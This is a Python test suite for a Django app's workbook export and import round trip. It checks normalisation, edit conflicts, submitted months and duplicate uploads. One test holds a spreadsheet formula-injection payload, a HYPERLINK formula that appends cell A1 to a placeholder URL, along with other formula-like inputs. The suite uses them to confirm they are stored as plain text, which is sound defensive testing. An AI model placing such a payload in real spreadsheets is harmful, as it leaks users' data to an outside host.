"""The workbook out and in: what was not touched does not change, what was touched changes, and nothing else."""

from __future__ import annotations

import io
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from hypothesis.extra.django import TestCase as IpotesiTestCase

from monitoraggio.bozza.lettura import normalizza
from monitoraggio.foglio.scrittura import scrivi
from monitoraggio.foglio.tipi import FoglioRifiutato, Genere, Libro, RigaFoglio
from monitoraggio.models import Avanzamento, FoglioCaricato, PassoBozza
from monitoraggio.models.fogli import StatoFoglio
from monitoraggio.services import bozze, passaggi
from monitoraggio.services import foglio as servizi
from registro.models import Evento
from tests.monitoraggio.base import DICEMBRE, NOVEMBRE, celle_buone, intervento
from tests.monitoraggio.base_foglio import FoglioTestCase, impegno, in_fondo, libro_di, pagina, riga

TESTI = st.text(st.characters(exclude_categories=("Cs", "Cc", "Cn"), include_characters="\n\t"), max_size=40)
NUMERI = st.decimals(min_value=0, max_value=Decimal("999999999999.99"), places=2)
CENTO = st.decimals(min_value=0, max_value=100, places=2)
GIORNI = st.dates(min_value=date(1990, 1, 1), max_value=date(2099, 12, 31))


def scritto(valore: object) -> str:
    return str(valore).replace(".", ",") if isinstance(valore, Decimal) else str(valore)


BOZZE = st.fixed_dictionaries(
    {},
    optional={
        "testa-0-percentuale": CENTO.map(scritto) | TESTI,
        "testa-0-note": TESTI,
        "testa-0-senza_movimenti": st.just("si"),
        "fasi-00313-inizio_stimato": GIORNI.map(scritto) | TESTI,
        "quadro-lavori-importo": NUMERI.map(scritto) | TESTI,
        "indicatori-x1-codice": st.just("T0039"),
        "indicatori-x1-realizzato": st.decimals(min_value=0, max_value=10**12, places=4).map(scritto) | TESTI,
        "impegni-n1-codice": st.sampled_from(["0012", "1/2024", "=1+1", "+39", "-5", "@SOMMA(A1)", "1E5"]) | TESTI,
        "impegni-n1-beneficiario_cf": st.sampled_from(["01234567890", "RSSMRA80A01F205X"]),
        "impegni-n1-importo": NUMERI.map(scritto),
        "impegni-n1-tipo": st.sampled_from(["I", "D", "Z"]),
        "impegni-n1-data": GIORNI.map(scritto),
        "costi-a2024-anno": st.integers(1990, 2099).map(str),
        "criticita-c1-descrizione": TESTI,
        "criticita-c1-gravita": st.sampled_from(["bassa", "alta", "gravissima"]),
        "sal-s1-numero": st.just("1"),
        "sal-s1-togli": st.just("si"),
    },
)


class AndataERitornoTestCase(FoglioTestCase, IpotesiTestCase):
    @settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
    @given(celle=BOZZE)
    def test_un_foglio_non_toccato_non_cambia_nulla(self, celle: dict[str, str]) -> None:
        self.bozza(celle=celle)
        foglio = self.carica(self.modificato(lambda libro: None))
        assert foglio.stato == StatoFoglio.DA_CONFERMARE, foglio.errore
        assert self.esiti(foglio, *Genere) == []
        assert foglio.invariati == 1


class FoglioInScritturaTestCase(FoglioTestCase):
    def test_scaricare_non_apre_e_non_scrive_nulla(self) -> None:
        eventi = Evento.objects.count()
        self.scarica()
        assert not Avanzamento.objects.exists()
        assert Evento.objects.count() == eventi

    def test_ogni_genere_di_cella_cambia_solo_la_sua_e_normalizzata(self) -> None:
        opera = self.bozza()
        prima = dict(opera.bozza)
        casi: list[tuple[str, str, str, object, str]] = [
            ("testa", "0", "percentuale", 45.5, "45,50"),
            ("testa", "0", "note", "  Due righe\r\ndi nota ", "Due righe\ndi nota"),
            ("fasi", "00311", "fine_effettiva", date(2024, 1, 9), "2024-01-09"),
            ("fasi", "00314", "fine_stimata", "30/06/2026", "2026-06-30"),
            ("quadro", "iva", "importo", "€ 1.234,5", "1.234,50"),
            ("costi", "a2024", "realizzato", 0.1 + 0.2, "0,30"),
            ("criticita", "", "gravita", "ALTA", "alta"),
            ("pagamenti", "", "codice", 0, "0"),
            ("impegni", "", "beneficiario_cf", 1234567890.0, "01234567890"),
        ]

        def modifica(libro: Libro) -> None:
            for sezione, nome, campo, valore, _atteso in casi:
                riga(libro, sezione, nome).valori[campo] = valore  # type: ignore[assignment]

        libro = libro_di(self.scarica())
        attese = {
            f"{sezione}-{nome or f'f{libro.identita}0'}-{campo}": atteso for sezione, nome, campo, _v, atteso in casi
        }
        foglio = self.scritto(self.modificato(modifica, scrivi(libro)))
        assert self.esiti(foglio, Genere.RIFIUTO, Genere.SCONTRO) == []
        dopo = self.bozza_di()
        cambiate = {nome: valore for nome, valore in dopo.items() if prima.get(nome, "") != valore}
        assert cambiate == attese
        passo = PassoBozza.objects.filter(avanzamento=opera).latest("revisione")
        assert passo.autore == self.compilatore
        assert set(passo.cambi) == set(attese)

    def test_la_bozza_non_aperta_si_apre_con_la_conferma(self) -> None:
        byte = self.modificato(lambda libro: riga(libro, "testa", "0").valori.update(percentuale=Decimal(12)))
        foglio = self.carica(byte)
        assert not Avanzamento.objects.exists()
        cambi = self.esiti(foglio, Genere.CAMBIO)
        assert [(c.foglio, c.prima, c.dopo) for c in cambi] == [("In breve", "", "12,00")]
        self.lavorato(servizi.conferma(foglio_id=foglio.pk, autore=self.compilatore))
        avanzamento = Avanzamento.objects.get()
        assert (avanzamento.bozza["testa-0-percentuale"], avanzamento.creato_da) == ("12,00", self.compilatore)
        # Only what was typed is a change of hers: the rest is what the draft was born with.
        assert set(avanzamento.passi.get(revisione=1).cambi) == {"testa-0-percentuale"}

    def test_una_cella_svuotata_cancella_e_una_colonna_tolta_no(self) -> None:
        self.bozza()
        byte = self.modificato(lambda libro: riga(libro, "testa", "0").valori.update(percentuale=None))

        def senza_colonna(libro: Libro) -> None:
            scheda = libro.schede["costi"]
            scheda.colonne -= {"realizzato"}
            for r in scheda.righe:
                r.valori["anno"] = r.valori["anno"] or None

        self.scritto(self.modificato(senza_colonna, byte))
        dopo = self.bozza_di()
        assert dopo["testa-0-percentuale"] == ""
        assert dopo["costi-a2024-realizzato"] == "0"

    def test_le_righe_nuove_in_fondo_hanno_un_nome_che_non_cambia(self) -> None:
        byte = self.modificato(lambda libro: in_fondo(libro, "impegni", self.opera.cup, **impegno()))
        self.scritto(byte)
        dopo = self.bozza_di()
        nomi = {nome.split("-")[1] for nome in dopo if nome.startswith("impegni-")}
        assert len(nomi) == 1
        assert dopo[f"impegni-{nomi.pop()}-importo"] == "500.000,50"
        assert self.esiti(self.carica(byte), Genere.CAMBIO, Genere.RIFIUTO, Genere.SCONTRO) == []

    def test_lo_stesso_foglio_due_volte_non_cambia_nulla_la_seconda(self) -> None:
        def modifica(libro: Libro) -> None:
            riga(libro, "impegni").valori.update(impegno())
            in_fondo(libro, "pagamenti", self.opera.cup, codice="M-1", importo=Decimal(10))

        byte = self.modificato(modifica)
        self.scritto(byte)
        prima = self.bozza_di()
        seconda = self.carica(byte)
        assert self.esiti(seconda, Genere.CAMBIO, Genere.SCONTRO, Genere.RIFIUTO) == []
        with pytest.raises(FoglioRifiutato, match="nulla da scrivere"):
            servizi.conferma(foglio_id=seconda.pk, autore=self.compilatore)
        assert self.bozza_di() == prima

    def test_lo_stesso_foglio_corretto_ancora_non_si_scontra_con_se_stesso(self) -> None:
        byte = self.modificato(lambda libro: riga(libro, "testa", "0").valori.update(percentuale=Decimal(12)))
        self.scritto(byte)
        poi = self.modificato(lambda libro: riga(libro, "testa", "0").valori.update(percentuale=Decimal(13)), byte)
        foglio = self.scritto(poi)
        assert self.esiti(foglio, Genere.SCONTRO) == []
        assert self.bozza_di()["testa-0-percentuale"] == "13,00"

    def test_una_riga_si_toglie_scrivendo_si_e_non_cancellandola(self) -> None:
        celle = celle_buone() | {"impegni-n1-codice": "1", "impegni-n2-codice": "2"}
        self.bozza(celle=celle)

        def modifica(libro: Libro) -> None:
            riga(libro, "impegni", "n1").valori["togli"] = "sì"
            libro.schede["impegni"].righe.remove(riga(libro, "impegni", "n2"))

        foglio = self.scritto(self.modificato(modifica))
        dopo = self.bozza_di()
        assert dopo["impegni-n1-togli"] == "si"
        assert "impegni-n2-togli" not in dopo
        assert any("colonna «Togli la riga»" in nota.ragione for nota in self.esiti(foglio, Genere.NOTA))

    def test_cio_che_altri_hanno_cambiato_resta_ed_e_detto(self) -> None:
        opera = self.bozza()

        def modifica(libro: Libro) -> None:
            riga(libro, "testa", "0").valori.update(percentuale=Decimal(20), note="Mia")

        byte = self.modificato(modifica)
        bozze.salva(
            avanzamento_id=opera.pk, revisione=opera.revisione, celle={"testa-0-percentuale": "30"},
            autore=self.responsabile,
        )  # fmt: skip
        foglio = self.scritto(byte)
        dopo = self.bozza_di()
        assert (dopo["testa-0-percentuale"], dopo["testa-0-note"]) == ("30", "Mia")
        scontri = self.esiti(foglio, Genere.SCONTRO)
        assert [(s.prima, s.dopo) for s in scontri] == [("30,00", "20,00")]

    def test_cambiato_fra_la_prova_e_la_conferma_e_uno_scontro(self) -> None:
        opera = self.bozza()
        byte = self.modificato(lambda libro: riga(libro, "testa", "0").valori.update(percentuale=Decimal(20)))
        foglio = self.carica(byte)
        assert self.esiti(foglio, Genere.SCONTRO) == []
        bozze.salva(
            avanzamento_id=opera.pk, revisione=opera.revisione, celle={"testa-0-percentuale": "30"},
            autore=self.responsabile,
        )  # fmt: skip
        foglio = self.lavorato(servizi.conferma(foglio_id=foglio.pk, autore=self.compilatore))
        assert self.bozza_di()["testa-0-percentuale"] == "30"
        assert len(self.esiti(foglio, Genere.SCONTRO)) == 1

    def test_il_mese_gia_inviato_non_si_scrive_e_non_e_nel_foglio(self) -> None:
        opera = self.bozza()
        byte = self.modificato(lambda libro: riga(libro, "testa", "0").valori.update(percentuale=Decimal(20)))
        passaggi.invia(avanzamento_id=opera.pk, autore=self.responsabile)
        foglio = self.carica(byte)
        rifiuti = self.esiti(foglio, Genere.RIFIUTO)
        assert [("già inviato" in r.ragione) for r in rifiuti] == [True]
        with pytest.raises(FoglioRifiutato, match="nessun intervento da compilare"):
            self.scarica()

    def test_inviato_fra_la_prova_e_la_conferma_non_si_scrive(self) -> None:
        opera = self.bozza()
        byte = self.modificato(lambda libro: riga(libro, "testa", "0").valori.update(percentuale=Decimal(20)))
        foglio = self.carica(byte)
        passaggi.invia(avanzamento_id=opera.pk, autore=self.responsabile)
        foglio = self.lavorato(servizi.conferma(foglio_id=foglio.pk, autore=self.compilatore))
        assert foglio.stato == StatoFoglio.APPLICATO
        assert self.esiti(foglio, Genere.CAMBIO) == []
        assert ["già inviato" in r.ragione for r in self.esiti(foglio, Genere.RIFIUTO)] == [True]

    def test_le_date_previste_approvate_non_si_cambiano_dal_foglio(self) -> None:
        self.approvato(NOVEMBRE)
        byte = self.modificato(lambda libro: riga(libro, "fasi", "00313").valori.update(fine_prevista=date(2027, 1, 1)))
        rifiuti = self.esiti(self.carica(byte), Genere.RIFIUTO)
        assert ["proroga" in r.ragione for r in rifiuti] == [True]

    def test_un_lavoro_interrotto_riprende_e_non_raddoppia(self) -> None:
        altra_opera = intervento()

        def modifica(libro: Libro) -> None:
            for r in libro.schede["testa"].righe:
                r.valori["percentuale"] = Decimal(15)

        foglio = self.carica(self.modificato(modifica))
        servizi.conferma(foglio_id=foglio.pk, autore=self.compilatore)
        foglio = self.lavorato(foglio)
        # As after a worker that died before it could say that it had finished.
        FoglioCaricato.objects.filter(pk=foglio.pk).update(stato=StatoFoglio.IN_APPLICAZIONE)
        self.lavorato(servizi.riprova(foglio_id=foglio.pk, autore=self.compilatore))
        for opera in (self.opera, altra_opera):
            avanzamento = Avanzamento.objects.get(intervento=opera, mese=DICEMBRE)
            assert (avanzamento.revisione, avanzamento.bozza["testa-0-percentuale"]) == (1, "15,00")

    def test_gli_avvisi_hanno_un_foglio_dove_si_spiegano(self) -> None:
        celle = celle_buone() | {
            "testa-0-senza_movimenti": "",
            "impegni-n1-tipo": "I", "impegni-n1-codice": "100/2024", "impegni-n1-data": "2024-12-02",
            "impegni-n1-importo": "500.000,00", "impegni-n1-cig": "A000000001", "pagamenti-n2-tipo": "P",
            "pagamenti-n2-codice": "M-1", "pagamenti-n2-data": "2024-12-20", "pagamenti-n2-importo": "10,00",
            "pagamenti-n2-impegno": "100/2024",
        }  # fmt: skip
        self.bozza(celle=celle)
        byte = self.scarica()
        assert any("iustificativo" in str(cella) for r in pagina(byte, "Avvisi") for cella in r)

        def modifica(libro: Libro) -> None:
            riga(libro, "spiegazioni", "giustificativo_n2").valori["testo"] = "In arrivo."

        self.scritto(self.modificato(modifica, byte))
        assert self.bozza_di()["spiegazioni-giustificativo_n2-testo"] == "In arrivo."

    def test_nessun_testo_diventa_una_formula(self) -> None:
        cattivo = '=HYPERLINK("https://esempio.invalid/?"&A1;"clicca")'
        self.bozza(celle=celle_buone() | {"testa-0-note": cattivo, "impegni-n1-codice": "@SOMMA(A1)"})
        byte = self.scarica()
        with zipfile.ZipFile(io.BytesIO(byte)) as archivio:
            fogli = [archivio.read(n) for n in archivio.namelist() if n.startswith("xl/worksheets/")]
            stili = archivio.read("xl/styles.xml")
        assert fogli
        assert not any(b"<f>" in foglio or b"<f " in foglio or b"hyperlink" in foglio.lower() for foglio in fogli)
        assert b'quotePrefix="1"' in stili
        assert cattivo in pagina(byte, "In breve")[1]
        assert self.esiti(self.carica(byte), *Genere) == []

    def test_la_riga_copiata_con_la_sua_parte_nascosta_e_una_riga_nuova(self) -> None:
        self.bozza(celle=celle_buone() | {"impegni-n1-codice": "1", "impegni-n1-importo": "10"})

        def modifica(libro: Libro) -> None:
            prima = riga(libro, "impegni", "n1")
            copia = in_fondo(libro, "impegni", self.opera.cup, **(prima.valori | {"codice": "2"}))
            copia.intervento, copia.nome = prima.intervento, prima.nome

        self.scritto(self.modificato(modifica))
        dopo = self.bozza_di()
        assert dopo["impegni-n1-codice"] == "1"
        assert sorted(v for n, v in dopo.items() if n.startswith("impegni-") and n.endswith("-codice")) == ["1", "2"]

    def test_le_righe_del_portale_non_si_aggiungono(self) -> None:
        def modifica(libro: Libro) -> None:
            libro.schede["quadro"].righe.append(
                RigaFoglio(None, "", cup=self.opera.cup, valori={"importo": Decimal(1)}, numero=99)
            )

        rifiuti = self.esiti(self.carica(self.modificato(modifica)), Genere.RIFIUTO)
        assert [(r.foglio, r.riga) for r in rifiuti] == [("Quadro economico", 99)]

    def test_la_base_del_foglio_e_la_bozza(self) -> None:
        bozza = self.bozza()
        assert normalizza(libro_di(self.scarica()).base[self.opera.pk]) == normalizza(bozza.bozza)
